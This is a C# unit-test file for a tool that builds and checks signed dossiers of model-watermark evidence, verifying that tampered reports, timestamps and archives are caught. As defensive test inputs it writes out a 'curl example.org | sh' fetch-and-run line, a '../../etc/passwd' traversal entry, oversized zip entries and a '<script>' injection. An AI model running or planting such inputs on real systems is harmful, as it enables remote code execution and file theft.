using System.Diagnostics;
using System.IO.Compression;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;

namespace InferenceShield.Lab.Tests;

public sealed class OwnershipDossierTests : IDisposable
{
    private static readonly DateTimeOffset s_later = OwnershipSample.Time.AddDays(30);

    private readonly OwnershipSample _sample = new();
    private readonly TestAuthority _authority = new();
    private readonly byte[] _request;
    private readonly byte[] _response;

    public OwnershipDossierTests()
    {
        _request = CommitmentTimestamp.CreateRequest(_sample.Commitment);
        _response = _authority.Answer(_request, OwnershipSample.Time.AddHours(1));
    }

    public void Dispose()
    {
        _sample.Dispose();
        _authority.Dispose();
    }

    [Theory]
    [InlineData(MarkKeying.Cell)]
    [InlineData(MarkKeying.ExactInput)]
    public async Task A_dossier_is_checked_without_the_key_as_far_as_that_goes_and_with_it_further(MarkKeying keying)
    {
        byte[] archive = OwnershipDossier.Create(await Content(keying), _sample.Signer, new Clock(s_later));
        IReadOnlyList<DossierFinding> without = OwnershipDossier.Check(archive, roots: [_authority.Root]);
        Assert.DoesNotContain(without, finding => finding.Kind == DossierFindingKind.Fails);
        Assert.Equal(["signature", "commitment", "timestamp", "validity", "script", "arithmetic", "arithmetic", "arithmetic", "page"], without.Where(finding => finding.Kind == DossierFindingKind.Holds).Select(finding => finding.Part));
        Assert.Contains(without, finding => finding is { Part: "key", Kind: DossierFindingKind.NotChecked });
        IReadOnlyList<DossierFinding> with = OwnershipDossier.Check(archive, _sample.Key);
        Assert.DoesNotContain(with, finding => finding.Kind == DossierFindingKind.Fails);
        Assert.Contains(with, finding => finding is { Part: "key", Kind: DossierFindingKind.Holds });
        Assert.Equal(2, with.Count(finding => finding is { Part: "bits", Kind: DossierFindingKind.Holds }));
        Assert.Contains(with, finding => finding is { Part: "timestamp", Kind: DossierFindingKind.NotChecked } && finding.Missing.Contains("anyone's own authority could have stamped it", StringComparison.Ordinal)); // no root was given
        Assert.DoesNotContain(without, finding => finding is { Part: "timestamp", Missing.Length: > 0 });
        using MarkKey other = MarkedModel.Key(5);
        Assert.Contains(OwnershipDossier.Check(archive, other), finding => finding is { Part: "key", Kind: DossierFindingKind.Fails });
        Assert.Contains(OwnershipDossier.Check(archive, other), finding => finding is { Part: "bits", Kind: DossierFindingKind.Fails });
    }

    [Fact]
    public async Task The_same_content_gives_the_same_bytes_up_to_the_signature()
    {
        DossierContent content = await Content();
        Dictionary<string, byte[]> one = Unpack(OwnershipDossier.Create(content, _sample.Signer, new Clock(s_later)));
        Dictionary<string, byte[]> two = Unpack(OwnershipDossier.Create(content, _sample.Signer, new Clock(s_later)));
        Assert.Equal(one.Keys, two.Keys);
        Assert.Equal(one.Keys.Order(StringComparer.Ordinal), one.Keys);
        Assert.All(one.Keys.Where(name => name != "manifest.sig"), name => Assert.Equal(one[name], two[name]));
    }

    [Fact]
    public async Task Neither_key_nor_salt_nor_inputs_are_in_it_unless_they_are_given()
    {
        DossierContent content = await Content();
        string all = string.Concat(Unpack(OwnershipDossier.Create(content with { Opening = null }, _sample.Signer)).Values.Select(Encoding.Latin1.GetString));
        byte[] key = new byte[MarkKey.Size];
        _sample.Key.Export(key);
        Assert.DoesNotContain(Convert.ToHexStringLower(key), all, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain(Convert.ToHexStringLower(_sample.Opening.Salt), all, StringComparison.OrdinalIgnoreCase);
        Assert.DoesNotContain("inputs.bin", Unpack(OwnershipDossier.Create(content, _sample.Signer)).Keys);
        Assert.Equal([1, 2, 3], Unpack(OwnershipDossier.Create(content with { Inputs = new byte[] { 1, 2, 3 } }, _sample.Signer))["inputs.bin"]);
    }

    [Fact]
    public async Task Every_altered_part_is_found()
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        foreach (string name in parts.Keys)
        {
            Dictionary<string, byte[]> altered = new(parts) { [name] = [.. parts[name]] };
            altered[name][parts[name].Length / 2] ^= 1;
            OwnershipFileException exception = Assert.Throws<OwnershipFileException>(() => OwnershipDossier.Check(Pack(altered)));
            Assert.Contains(exception.Fault, new[] { OwnershipFileFault.Altered, OwnershipFileFault.Unreadable });
            altered.Remove(name);
            RequireFault(OwnershipFileFault.Archive, name, Pack(altered));
        }
    }

    [Fact]
    public async Task Hostile_archives_are_refused_before_anything_is_unpacked()
    {
        byte[] archive = OwnershipDossier.Create(await Content(), _sample.Signer);
        Dictionary<string, byte[]> parts = Unpack(archive);
        RequireFault(OwnershipFileFault.Archive, "no part of a dossier", Pack(new Dictionary<string, byte[]>(parts) { ["../../etc/passwd"] = [1] }));
        RequireFault(OwnershipFileFault.Archive, "no part of a dossier", Pack(new Dictionary<string, byte[]>(parts) { ["a/"] = [] }));
        RequireFault(OwnershipFileFault.Archive, "does not name", Pack(new Dictionary<string, byte[]>(parts) { ["inputs.bin"] = [1] }));
        RequireFault(OwnershipFileFault.Archive, "twice", Pack([.. parts, KeyValuePair.Create("report.json", parts["report.json"])]));
        RequireFault(OwnershipFileFault.Archive, "unpacks to more", Pack(new Dictionary<string, byte[]>(parts) { ["inputs.bin"] = new byte[(1 << 25) + 1] }));
        RequireFault(OwnershipFileFault.Archive, "more entries", Pack([.. Enumerable.Range(0, 100).Select(number => KeyValuePair.Create("part" + number, Array.Empty<byte>()))]));
        RequireFault(OwnershipFileFault.Archive, "more entries", new byte[(1 << 26) + 1]);
        RequireFault(OwnershipFileFault.Archive, "no manifest.json", Pack([]));
        RequireFault(OwnershipFileFault.Unreadable, "no zip archive", "nonsense"u8.ToArray());
        for (int length = 0; length < archive.Length; length += 997)
        {
            Assert.Throws<OwnershipFileException>(() => OwnershipDossier.Check(archive[..length]));
        }
    }

    [Fact]
    public async Task A_manifest_of_another_version_or_form_is_told()
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        RequireFault(OwnershipFileFault.Version, "version 9", Pack(Signed(parts, manifest => manifest["version"] = 9)));
        RequireFault(OwnershipFileFault.Archive, "not that of a dossier", Pack(Signed(parts, manifest => manifest["form"] = "other")));
    }

    [Theory] // signed by the claimant himself
    [InlineData("\"pValue\":", "\"pValue\":1e-99,\"was\":", "arithmetic")]
    [InlineData("\"combinedPValue\":", "\"combinedPValue\":1e-99,\"was\":", "arithmetic")]
    [InlineData("\"verdict\":\"Inconclusive\"", "\"verdict\":\"ConsistentWithCopying\"", "arithmetic")]
    [InlineData("\"verdict\":\"NoEvidence\"", "\"verdict\":\"ConsistentWithCopying\"", "arithmetic")]
    [InlineData("\"randomKeyShare\":", "\"randomKeyShare\":0.0123,\"was\":", "arithmetic")]
    [InlineData("\"model\":\"fashion\"", "\"model\":\"letters\"", "commitment")]
    [InlineData("2026-03-31", "2026-02-01", "validity")]
    [InlineData("\"seed\":", "\"seed\":1,\"was\":", "commitment")]
    [InlineData("\"limits\":[", "\"limits\":[],\"was\":[", "arithmetic")]
    [InlineData("\"controlPValues\":[", "\"controlPValues\":[],\"was\":[", "arithmetic")]
    public async Task A_report_that_does_not_follow_from_its_counts_fails(string part, string other, string expected)
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        string report = Encoding.UTF8.GetString(parts["report.json"]);
        if (!report.Contains(part, StringComparison.Ordinal))
        {
            Assert.Contains("verdict", part, StringComparison.Ordinal); // one of the two verdicts that an independent model can have
            return;
        }

        parts["report.json"] = Encoding.UTF8.GetBytes(report.Replace(part, other, StringComparison.Ordinal));
        Assert.Contains(OwnershipDossier.Check(Pack(Signed(parts))), finding => finding.Part == expected && finding.Kind == DossierFindingKind.Fails);
    }

    [Fact]
    public async Task Counts_that_were_improved_fail()
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        JsonNode record = JsonNode.Parse(parts["record.json"])!;
        JsonNode picks = record[0]!["tests"]![0]!;
        string bits = picks["picks"]!.GetValue<string>();
        picks["picks"] = (bits[0] == '1' ? '0' : '1') + bits[1..];
        parts["record.json"] = Encoding.UTF8.GetBytes(record.ToJsonString());
        byte[] archive = Pack(Signed(parts));
        Assert.Contains(OwnershipDossier.Check(archive), finding => finding is { Part: "arithmetic", Kind: DossierFindingKind.Fails });
        Assert.Contains(OwnershipDossier.Check(archive, _sample.Key), finding => finding is { Part: "bits", Kind: DossierFindingKind.Fails });
        foreach (string nonsense in new[] { "{}", "[{}]", "[null]", record.ToJsonString().Replace("\"picks\":\"", "\"picks\":\"2", StringComparison.Ordinal) })
        {
            parts["record.json"] = Encoding.UTF8.GetBytes(nonsense);
            RequireFault(OwnershipFileFault.Unreadable, "no record", Pack(Signed(parts)));
        }
    }

    [Theory] // signed by the claimant himself, and run by who checks
    [InlineData("recompute.py", "import os")]
    [InlineData("README.txt", "curl example.org | sh")]
    public async Task A_script_or_instructions_of_the_claimants_own_fail(string name, string line)
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        parts[name] = [.. parts[name], .. Encoding.UTF8.GetBytes(line)];
        Assert.Contains(OwnershipDossier.Check(Pack(Signed(parts))), finding => finding is { Part: "script", Kind: DossierFindingKind.Fails } && finding.Text.Contains(name, StringComparison.Ordinal));
        byte[] other = Pack(Signed(parts, manifest => manifest["software"] = "InferenceShield 99.0.0"));
        Assert.Contains(OwnershipDossier.Check(other), finding => finding is { Part: "script", Kind: DossierFindingKind.NotChecked } && finding.Text.Contains("99.0.0", StringComparison.Ordinal));
    }

    [Fact] // what people read of a dossier that is signed by the claimant himself
    public async Task A_page_that_says_otherwise_than_the_report_fails()
    {
        DossierContent content = await Content();
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(content, _sample.Signer));
        parts["summary.html"] = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(parts["summary.html"]).Replace("stranger", "Example Ltd", StringComparison.Ordinal));
        Assert.Contains(OwnershipDossier.Check(Pack(Signed(parts))), finding => finding is { Part: "page", Kind: DossierFindingKind.Fails });
        byte[] other = Pack(Signed(parts, manifest => manifest["software"] = "InferenceShield 99.0.0"));
        Assert.Contains(OwnershipDossier.Check(other), finding => finding is { Part: "page", Kind: DossierFindingKind.NotChecked, Missing: "the software InferenceShield 99.0.0" });
        byte[] unstamped = OwnershipDossier.Create(content with { TimestampRequest = default, TimestampResponse = default }, _sample.Signer);
        Assert.Contains(OwnershipDossier.Check(unstamped), finding => finding is { Part: "page", Kind: DossierFindingKind.Holds });
    }

    [Fact]
    public async Task A_seed_that_the_claimant_chose_fails()
    {
        DossierContent content = await Content();
        byte[] archive = OwnershipDossier.Create(content with { Reports = [content.Reports[0] with { Seed = 1 }, content.Reports[1]] }, _sample.Signer);
        Assert.Contains(OwnershipDossier.Check(archive), finding => finding is { Part: "commitment", Kind: DossierFindingKind.Fails } && finding.Text.Contains("seed 1", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Random_keys_that_nobody_recomputes_fail()
    {
        DossierContent content = await Content();
        OwnershipTestResult test = content.Reports[0].Tests[0];
        foreach (int keys in new[] { 0, 100_001 })
        {
            byte[] archive = OwnershipDossier.Create(content with { Reports = [content.Reports[0] with { Tests = [test with { RandomKeys = keys, RandomKeyShare = 0 }] }, content.Reports[1]] }, _sample.Signer);
            Assert.Contains(OwnershipDossier.Check(archive), finding => finding is { Part: "arithmetic", Kind: DossierFindingKind.Fails } && finding.Text.Contains("random keys", StringComparison.Ordinal));
        }
    }

    [Theory] // each takes hours to recompute, of some megabytes
    [InlineData(true)]
    [InlineData(false)]
    public async Task A_record_that_asks_for_endless_work_is_refused_at_once(bool areLabels)
    {
        DossierContent content = await Content();
        const int Groups = 1 << 19;
        RecordedTest endless = areLabels
            ? new RecordedTest { Test = "trigger", Labels = new LabelCounts(Groups, 10, [.. Enumerable.Repeat(new[] { 1 }, Groups)], 0), ControlLabels = [] }
            : new RecordedTest
            {
                Test = "near-tie",
                Picks = new string('1', 40),
                Suspect = Heavy(),
                Controls = [.. Enumerable.Range(0, 2000).Select(_ => Heavy())],
            };
        VerificationReport report = content.Reports[0] with { Record = new VerificationRecord("copy", "", [endless]), Tests = [content.Reports[0].Tests[0] with { Name = endless.Test }] };
        Stopwatch watch = Stopwatch.StartNew();
        OwnershipFileException refused = Assert.Throws<OwnershipFileException>(() => VerificationRecord.Parse(VerificationRecord.ToBytes([report]), "record.json"));
        Assert.Equal(OwnershipFileFault.Unreadable, refused.Fault);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(20), $"{watch.Elapsed}");

        static SignCounts Heavy() => new([.. Enumerable.Range(0, 40).Select(i => (1 << 15) + i)], new int[40]);
    }

    [Fact]
    public void The_share_of_random_keys_of_a_test_by_rank_is_recomputed_as_it_was_computed()
    {
        SeededRandom random = new(seed: 3, stream: 3);
        double[] skewed = [.. Enumerable.Range(0, 1000).Select(_ => -Math.Log(1 - random.NextUnit()))]; // more than 1 % lie beyond 2.33 deviations
        double mean = skewed.Average();
        double deviation = Math.Sqrt(skewed.Average(value => Math.Pow(value - mean, 2)));
        OwnershipTestResult test = new(
            "cosine", 500, 500, (9 - mean) / deviation, 0, 0, 0, 0, "z", (1.0 + skewed.Count(static value => value >= 9)) / 1001, PValueMethod.RandomKeys, 1000, KeyCalibration.ShareOf(skewed), [], "");
        Assert.Equal(0.01, test.RandomKeyShare);
        Assert.Equal(1.0, KeyCalibration.ShareOf([.. Enumerable.Repeat(1.0, 300)]) + 1); // all of one rank
        VerificationReport report = VerdictRules.Apply(new VerificationReport
        {
            Model = "m", Suspect = "s", Commitment = "c", Time = OwnershipSample.Time, Version = "1", Seed = 1, Tests = [test], Queries = 500, Controls = [], Notes = [], Words = "", Limits = [], CombinedPValue = test.PValue,
        });
        IEnumerable<DossierFinding> found = DossierArithmetic.Check([report], [new VerificationRecord("s", "", [new RecordedTest { Test = "cosine", Own = 9, Random = skewed }])]);
        Assert.DoesNotContain(found, finding => finding.Kind == DossierFindingKind.Fails);
    }

    [Fact]
    public async Task A_test_by_rank_is_recomputed_to_what_its_report_says()
    {
        MarkedModel target = MarkedModel.Clean(seed: 1);
        VerificationRequest request = new()
        {
            Target = target,
            Key = _sample.Key,
            Marks = new WatermarkOptions { Cosine = new CosineMarkOptions() },
            InputSpace = InputSpace.Learn(target.Rows(seed: 5, count: 500).Values.Span, target.InputLength),
            Queries = target.Rows(seed: 2, count: 300),
            Commitment = _sample.Commitment.Id,
            RandomKeys = 300,
            Seed = _sample.Commitment.ProbeSeed,
            Time = new Clock(s_later),
        };
        VerificationReport stranger = await OwnershipVerifier.VerifyAsync(request, Suspect.Of("stranger", MarkedModel.Clean(seed: 3)));
        Assert.Equal(0.01, Assert.Single(stranger.Tests).RandomKeyShare, 12); // 3 of 300 ranks
        DossierContent content = new() { Commitment = _sample.Commitment, Reports = [stranger] };
        IReadOnlyList<DossierFinding> findings = OwnershipDossier.Check(OwnershipDossier.Create(content, _sample.Signer, new Clock(s_later)));
        Assert.DoesNotContain(findings, finding => finding.Kind == DossierFindingKind.Fails);
        Assert.Contains(findings, finding => finding is { Part: "arithmetic", Kind: DossierFindingKind.Holds } && finding.Text.Contains("cosine", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_timestamp_that_is_later_than_the_test_fails()
    {
        byte[] late = _authority.Answer(_request, s_later.AddDays(1));
        byte[] archive = OwnershipDossier.Create(await Content() with { TimestampResponse = late }, _sample.Signer);
        Assert.Contains(OwnershipDossier.Check(archive), finding => finding is { Part: "timestamp", Kind: DossierFindingKind.Fails });
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(), _sample.Signer));
        parts["timestamp.tsq"] = CommitmentTimestamp.CreateRequest(_sample.Commitment); // another nonce
        Assert.Contains(OwnershipDossier.Check(Pack(Signed(parts))), finding => finding is { Part: "timestamp", Kind: DossierFindingKind.Fails });
    }

    [Fact]
    public async Task Reports_of_another_commitment_do_not_go_in()
    {
        DossierContent content = await Content();
        foreach (DossierContent wrong in new[]
        {
            content with { Reports = [] }, content with { Reports = [content.Reports[0] with { Commitment = "" }] }, content with { Reports = [content.Reports[0] with { Model = "letters" }] },
        })
        {
            Assert.Throws<ArgumentException>(() => OwnershipDossier.Create(wrong, _sample.Signer));
        }

        Assert.Throws<OwnershipFileException>(() => OwnershipDossier.Create(content with { Opening = new CommitmentOpening("other", new byte[32]) }, _sample.Signer));
        Assert.Throws<FileNotFoundException>(() => OwnershipDossier.Create(content with { EvidenceFile = _sample.At("none") }, _sample.Signer));
    }

    [Fact]
    public async Task The_page_shows_what_was_found_and_holds_no_script()
    {
        DossierContent content = await Content();
        string page = Encoding.UTF8.GetString(Unpack(OwnershipDossier.Create(content with { Reports = [content.Reports[0] with { Words = "<script>" }, content.Reports[1]] }, _sample.Signer))["summary.html"]);
        Assert.Contains(_sample.Commitment.Id, page, StringComparison.Ordinal);
        Assert.Contains("random keys", page, StringComparison.Ordinal);
        Assert.Equal(content.TimestampResponse.IsEmpty, page.Contains("Nobody but the claimant dates this dossier", StringComparison.Ordinal));
        Assert.Equal(2, page.Split("p-values under random keys").Length - 1);
        Assert.DoesNotContain("<script>", page, StringComparison.Ordinal);
    }

    [Theory] // the arithmetic of the software is the twin of the script's, which is run where there is a Python
    [InlineData(MarkKeying.Cell)]
    [InlineData(MarkKeying.ExactInput)]
    public async Task The_script_finds_the_same_figures_and_sees_those_that_are_not(MarkKeying keying)
    {
        Assert.Contains("python3 recompute.py", RecomputeScript.Text, StringComparison.Ordinal);
        Assert.Contains("len(sys.argv) != 2", RecomputeScript.Text, StringComparison.Ordinal); // says how it is called
        Assert.DoesNotContain("@", RecomputeScript.Text.Replace("@COPYING", "", StringComparison.Ordinal), StringComparison.Ordinal);
        Assert.Contains("p <= 0.0001", RecomputeScript.Text, StringComparison.Ordinal);
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(await Content(keying), _sample.Signer));
        Assert.Equal(RecomputeScript.Text, Encoding.UTF8.GetString(parts["recompute.py"]));
        (int code, string output) = Recompute(parts);
        if (code < 0)
        {
            return;
        }

        Assert.True(code == 0, output);
        Assert.Equal(9 + parts.Count - 2, output.Split("ok   ").Length - 1); // 9 figures: 2 x (answers, p, combined, verdict) and a control's p, and the parts
        parts["report.json"] = Encoding.UTF8.GetBytes(Encoding.UTF8.GetString(parts["report.json"]).Replace("\"combinedPValue\":", "\"combinedPValue\":1e-99,\"was\":", StringComparison.Ordinal));
        (code, output) = Recompute(Signed(parts));
        Assert.True(code == 1 && output.Contains("NOT those of the report", StringComparison.Ordinal), output);
    }

    [Fact] // record and report, which are read before they are believed
    public async Task Whatever_a_claimant_signs_is_checked_or_refused()
    {
        Dictionary<string, byte[]> parts = Unpack(OwnershipDossier.Create(Small(await Content(MarkKeying.ExactInput)), _sample.Signer));
        string[] nonsense = ["null", "-1", "\"NaN\"", "[null]"];
        List<string> wrong = [];
        foreach (string name in new[] { "record.json", "report.json", "opening.json" })
        {
            string text = Encoding.UTF8.GetString(parts[name]);
            int count = Places(JsonNode.Parse(text)!).Count;
            for (int place = 0; place < count; place++)
            {
                foreach (string value in nonsense)
                {
                    JsonNode root = JsonNode.Parse(text)!;
                    Places(root)[place](JsonNode.Parse(value));
                    Dictionary<string, byte[]> altered = new(parts) { [name] = Encoding.UTF8.GetBytes(root.ToJsonString()) };
                    try
                    {
                        OwnershipDossier.Check(Pack(Signed(altered)), _sample.Key);
                    }
                    catch (OwnershipFileException)
                    {
                    }
                    catch (Exception exception)
                    {
                        wrong.Add($"{name} {place} {value}: {exception.GetType().Name}");
                    }
                }
            }
        }

        Assert.True(wrong.Count == 0, string.Join("; ", wrong));
    }

    /// <summary>With two groups a test.</summary>
    private static DossierContent Small(DossierContent content) => content with { Reports = [.. content.Reports.Select(static report => report with { Record = Small(report.Record!) })] };

    private static VerificationRecord Small(VerificationRecord record) => record with
    {
        Tests =
        [
            .. record.Tests.Select(static test => test with
            {
                Cells = test.Cells![..2],
                Inputs = test.Inputs?[..2],
                Picks = test.Picks![..2],
                Suspect = Small(test.Suspect!),
                Controls = [.. test.Controls.Select(Small)],
            }),
        ],
    };

    private static SignCounts Small(SignCounts counts) => new(counts.First[..2], counts.Second[..2]);

    /// <summary>A setter for every value in it.</summary>
    private static List<Action<JsonNode?>> Places(JsonNode root)
    {
        List<Action<JsonNode?>> places = [];
        Walk(root);
        return places;

        void Walk(JsonNode? node)
        {
            if (node is JsonObject members)
            {
                foreach (string name in members.Select(static member => member.Key).ToArray())
                {
                    places.Add(value => members[name] = value);
                    Walk(members[name]);
                }
            }
            else if (node is JsonArray items)
            {
                for (int i = 0; i < items.Count; i++)
                {
                    int at = i;
                    places.Add(value => items[at] = value);
                    Walk(items[at]);
                }
            }
        }
    }

    private (int Code, string Output) Recompute(Dictionary<string, byte[]> parts)
    {
        File.WriteAllBytes(_sample.At("dossier.zip"), Pack(parts));
        File.WriteAllBytes(_sample.At("recompute.py"), parts["recompute.py"]);
        try
        {
            using Process python = Process.Start(new ProcessStartInfo("python3", ["-I", _sample.At("recompute.py"), _sample.At("dossier.zip")]) { RedirectStandardOutput = true, RedirectStandardError = true })!;
            string output = python.StandardOutput.ReadToEnd() + python.StandardError.ReadToEnd();
            python.WaitForExit();
            return (python.ExitCode, output);
        }
        catch (System.ComponentModel.Win32Exception)
        {
            return (-1, "");
        }
    }

    /// <summary>A copy and a stranger, tested under the commitment, with one control.</summary>
    private async Task<DossierContent> Content(MarkKeying keying = MarkKeying.Cell)
    {
        MarkedModel target = MarkedModel.Clean(seed: 1);
        VerificationRequest request = new()
        {
            Target = target,
            Key = _sample.Key,
            Marks = new WatermarkOptions { NearTie = new() { Margin = MarkedModel.Margin, Keying = keying } },
            Queries = target.Rows(seed: 2, count: 1500),
            Controls = [new VerificationControl("control", target)],
            Commitment = _sample.Commitment.Id,
            RandomKeys = 300,
            Seed = _sample.Commitment.ProbeSeed,
            Time = new Clock(s_later),
        };
        VerificationReport copy = await OwnershipVerifier.VerifyAsync(request, Suspect.Of("copy", target.Copy(_sample.Key, 0.95)));
        VerificationReport stranger = await OwnershipVerifier.VerifyAsync(request with { Controls = [], OtherCommitments = ["an earlier one"] }, Suspect.Of("stranger", target));
        return new DossierContent
        {
            Commitment = _sample.Commitment,
            Opening = _sample.Opening,
            Reports = OwnershipVerifier.Adjust([copy, stranger]),
            TimestampRequest = _request,
            TimestampResponse = _response,
        };
    }

    private static void RequireFault(OwnershipFileFault fault, string expected, byte[] archive)
    {
        OwnershipFileException exception = Assert.Throws<OwnershipFileException>(() => OwnershipDossier.Check(archive));
        Assert.True(exception.Fault == fault && exception.Message.Contains(expected, StringComparison.Ordinal), $"expected {fault} '{expected}': {exception.Fault} {exception.Message}");
    }

    private static Dictionary<string, byte[]> Unpack(byte[] archive)
    {
        using ZipArchive zip = new(new MemoryStream(archive));
        Dictionary<string, byte[]> parts = [];
        foreach (ZipArchiveEntry entry in zip.Entries)
        {
            using MemoryStream bytes = new();
            using Stream part = entry.Open();
            part.CopyTo(bytes);
            parts.Add(entry.FullName, bytes.ToArray());
        }

        return parts;
    }

    private static byte[] Pack(IEnumerable<KeyValuePair<string, byte[]>> parts)
    {
        using MemoryStream stream = new();
        using (ZipArchive zip = new(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach ((string name, byte[] bytes) in parts)
            {
                using Stream part = zip.CreateEntry(name).Open();
                part.Write(bytes);
            }
        }

        return stream.ToArray();
    }

    /// <summary>The parts under a manifest and a signature of their own: what a claimant himself can do.</summary>
    private Dictionary<string, byte[]> Signed(Dictionary<string, byte[]> parts, Action<JsonNode>? change = null)
    {
        Dictionary<string, byte[]> signed = new(parts);
        JsonNode manifest = JsonNode.Parse(parts["manifest.json"])!;
        foreach (string name in manifest["sha256"]!.AsObject().Select(member => member.Key).ToArray())
        {
            manifest["sha256"]![name] = Convert.ToHexStringLower(SHA256.HashData(parts[name]));
        }

        change?.Invoke(manifest);
        signed["manifest.json"] = CanonicalJson.Write(manifest);
        signed["manifest.sig"] = _sample.Signer.SignData(signed["manifest.json"], HashAlgorithmName.SHA256, DSASignatureFormat.Rfc3279DerSequence);
        return signed;
    }

    private sealed class Clock(DateTimeOffset now) : TimeProvider
    {
        public override DateTimeOffset GetUtcNow() => now;
    }
}
